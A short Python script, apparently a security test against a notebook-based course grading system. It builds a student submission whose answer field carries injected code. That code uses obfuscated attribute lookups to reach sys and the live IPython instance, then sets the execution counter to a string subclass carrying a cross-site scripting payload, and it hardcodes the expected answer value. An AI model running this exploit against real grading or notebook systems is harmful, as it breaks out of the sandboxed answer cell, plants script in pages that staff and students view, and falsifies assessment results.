import sys
sys.path.insert(0, "/tmp/attack2/lib")
from mk import build, solutions
EC = '''import operator, collections
_sys = operator.attrgetter("_s" + "ys")(collections)
_ip = operator.attrgetter("get_" + "ipython")(_sys.modules["IPython"])()
class _S(str):
    def __add__(self, o):
        return self
    def __sub__(self, o):
        return self
    def __radd__(self, o):
        return self
    def __rsub__(self, o):
        return self
_ip.execution_count = _S("<img src=x onerror=alert('ec')>")
three_calls = 12.0
'''
def main(course, student):
    a = solutions(course, "01_accumulation")
    a["three_calls_answer"] = EC
    print(build(course, student, "01_accumulation", a))
if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
